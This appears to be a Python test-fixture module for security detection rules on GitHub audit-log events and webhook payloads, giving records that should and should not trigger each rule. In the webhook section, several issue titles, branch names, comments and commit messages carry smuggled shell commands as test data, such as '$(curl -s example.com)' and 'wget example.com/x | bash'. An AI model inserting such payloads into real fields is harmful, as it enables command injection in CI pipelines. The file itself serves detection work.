"""Entries of the audit log and payloads on which the rules fire, and close ones on which they do not.

Names of actions and members are those of GitHub's documentation of audit log events and of webhooks.
"""

from __future__ import annotations

from typing import Any

Record = dict[str, Any]


def entry(action: str, **members: Any) -> Record:
    """Return an entry of the audit log."""
    return {"action": action, "actor": "mona", "org": "octo-org", "repo": "octo-org/app", **members}


def entries(actions: str, **members: Any) -> list[Record]:
    """Return an entry for each of the actions, which are separated by blanks."""
    return [entry(action, **members) for action in actions.split()]


def payload(**members: Any) -> Record:
    """Return the payload of a webhook."""
    return {"action": "opened", "repository": {"full_name": "octo-org/app"}, "sender": {"login": "mona"}, **members}


def run(event: str, *, fork: bool = False, action: str = "completed") -> Record:
    """Return the payload about a run of a workflow for a pull request."""
    head = {"ref": "fix", "repo": {"id": 2 if fork else 1}}
    request = {"number": 1, "base": {"ref": "main", "repo": {"id": 1}}, "head": head}
    return payload(action=action, workflow_run={"event": event, "head_branch": "fix", "pull_requests": [request]})


def job(*, action: str = "completed", **members: Any) -> Record:
    """Return the payload about a job of a workflow."""
    return payload(action=action, workflow_job=members)


def commits(message: str, *, private: bool = False) -> Record:
    """Return the payload of a push of one commit."""
    repository = {"full_name": "octo-org/app", "private": private, "allow_forking": True}
    return {"ref": "refs/heads/main", "commits": [{"id": "1", "message": message}], "repository": repository}


#: For each rule on the audit log entries that fire it, and close ones that do not.
AUDIT = {
    "GitHub protection of a branch removed or overridden": (
        entries("protected_branch.destroy protected_branch.policy_override repository_ruleset.destroy"),
        entries("protected_branch.create protected_branch.update_name repository_ruleset.create"),
    ),
    "GitHub scanning switched off": (
        entries(
            "secret_scanning.disable repository_secret_scanning_push_protection.disable dependabot_alerts.disable "
            "repository_vulnerability_alerts.disable org.advanced_security_disabled_on_all_repos"
        ),
        entries("secret_scanning.enable dependabot_alerts.enable enterprise.config.disable_anonymous_git_access"),
    ),
    "GitHub rules for logging in changed": (
        entries("org.saml_disabled org.disable_two_factor_requirement org.enable_oauth_app_restrictions"),
        entries("org.sso_response org.update_default_repository_permission"),
    ),
    "GitHub list of allowed addresses changed": (
        entries("ip_allow_list.disable ip_allow_list_entry.create"),
        entries("org.config"),
    ),
    "GitHub moderator, owner or role changed": (
        entries("organization_moderators.add_user org.update_member business.add_admin"),
        entries("org.invite_member role.destroy"),
    ),
    "GitHub member added or removed": (
        entries("org.add_member org.remove_member repo.add_member org.add_outside_collaborator"),
        entries("org.invite_member org.cancel_invitation"),
    ),
    "GitHub team changed": (
        entries("team.destroy team.add_repository team.add_member"),
        entries("team.rename team_discussions.enable"),
    ),
    "GitHub application given access": (
        entries("integration_installation.create oauth_application.create"),
        entries("integration_installation.destroy oauth_application.destroy"),
    ),
    "GitHub repository made without being private": (
        [entry("repo.create"), entry("repo.create", visibility="public")],
        [entry("repo.create", visibility="private"), entry("repo.create", visibility="internal")],
    ),
    "GitHub repository opened, moved or deleted": (
        entries("repo.access repo.transfer repo.transfer_start repo.destroy"),
        entries("repo.archived repo.rename"),
    ),
    "GitHub hook changed": (entries("hook.create hook.config_changed hook.destroy"), entries("org.invite_member")),
    "GitHub code reached with a key of no user": (
        entries("git.push git.clone", user="", repository_public=False, protocol_name="ssh"),
        [
            entry("git.push", user="mona", repository_public=False, protocol_name="ssh"),
            entry("git.push", user="", repository_public=True, protocol_name="ssh"),
            entry("git.fetch", user="", repository_public=False, protocol_name="http"),
        ],
    ),
    "GitHub alert dismissed": (
        entries("repository_vulnerability_alert.dismiss code_scanning.alert_closed_by_user"),
        entries("repository_vulnerability_alert.create repository_vulnerability_alert.resolve"),
    ),
    "GitHub secret found in code": (
        entries("secret_scanning_alert.create"),
        entries("secret_scanning_alert.public_leak"),
    ),
    "GitHub key or token made": (
        entries("public_key.create personal_access_token.access_granted ssh_certificate_authority.create"),
        entries("public_key.delete personal_access_token.access_revoked"),
    ),
    "GitHub workflows given more rights": (
        entries("org.set_default_workflow_permissions repo.actions_enabled repo.create_actions_secret"),
        entries("repo.remove_actions_secret workflows.delete_workflow_run"),
    ),
    "GitHub runner added": (
        entries("org.register_self_hosted_runner repo.register_self_hosted_runner enterprise.runner_group_created"),
        entries("org.remove_self_hosted_runner"),
    ),
    "GitHub workflow started by a program": (
        entries("workflows.created_workflow_run", event="workflow_dispatch", actor_is_bot=True),
        [
            entry("workflows.created_workflow_run", event="workflow_dispatch", actor_is_bot=False),
            entry("workflows.created_workflow_run", event="push", actor_is_bot=True),
        ],
    ),
    "GitHub scheduled workflow failed": (
        entries("workflows.completed_workflow_run", event="schedule", conclusion="failure"),
        [
            entry("workflows.completed_workflow_run", event="schedule", conclusion="success"),
            entry("workflows.completed_workflow_run", event="push", conclusion="failure"),
        ],
    ),
    "GitHub changed by a package manager": (
        entries("repo.update", programmatic_access_type="personal_access_token", user_agent="npm/10.2.4 node/v18.19.0"),
        [
            entry("git.clone", programmatic_access_type="personal_access_token", user_agent="npm/10.2.4 node/v18.19.0"),
            entry("repo.update", programmatic_access_type="personal_access_token", user_agent="git/2.39.3"),
            entry("repo.update", user_agent="npm/10.2.4"),
        ],
    ),
    "GitHub audit log taken away": (
        entries("audit_log_streaming.destroy org.audit_log_export migration.create"),
        entries("audit_log_streaming.check"),
    ),
}

#: For each rule on webhooks payloads that fire it, and close ones that do not.
WEBHOOKS = {
    "GitHub name that runs a command": (
        [
            payload(issue={"title": "Bug $(curl -s example.com)"}),
            payload(pull_request={"title": "Docs `wget example.com/x | bash`"}),
            payload(pull_request={"title": "Fix", "head": {"ref": "x`id`"}}),
            payload(pages=[{"page_name": "$(whoami)-test"}]),
        ],
        [
            payload(issue={"title": "Support for `match` statements"}),
            payload(pull_request={"title": "Fix typo", "head": {"ref": "fix-typo"}}),
            payload(pages=[{"page_name": "Home"}]),
        ],
    ),
    "GitHub text that runs a command": (
        [
            payload(comment={"body": "try: `curl -s example.com/x | bash`"}),
            payload(issue={"title": "Help", "body": "run /bin/bash -c 'id'"}),
            payload(review={"body": "Updated: eval($x)"}),
        ],
        [
            payload(comment={"body": "Thanks! Please run `make test`"}),
            payload(issue={"title": "Help", "body": "How do I get the value of $(id) in a Makefile?"}),
        ],
    ),
    "GitHub commit that runs a command": (
        [commits("Update /bin/bash -c 'id'"), commits("Fix $(id)")],
        [commits("Fix the parser"), commits("bash: complete options")],
    ),
    "GitHub workflow of a stranger's branch with the repository's rights": (
        [run("pull_request_target")],
        [run("pull_request"), run("push"), run("pull_request_target", action="requested")],
    ),
    "GitHub workflow run from a fork": (
        [run("pull_request", fork=True, action="requested")],
        [run("pull_request", action="requested"), run("push", fork=True, action="requested")],
    ),
    "GitHub job ran on a machine of your own": (
        [job(runner_name="builder-1", runner_group_name="Default")],
        [
            job(runner_name="GitHub Actions 12", runner_group_name="GitHub Actions"),
            job(runner_name=""),
            job(action="in_progress", runner_name="builder-1"),
        ],
    ),
    "GitHub job used another job's files": (
        [job(steps=[{"name": "actions/download-artifact@v4"}])],
        [job(steps=[{"name": "actions/upload-artifact@v4"}]), job(steps=[])],
    ),
    "GitHub checks skipped by a commit": (
        [commits("Fix docs [skip ci]"), commits("Typo\n\nskip-checks: true")],
        [commits("Fix docs"), commits("Fix docs [skip ci]", private=True)],
    ),
}
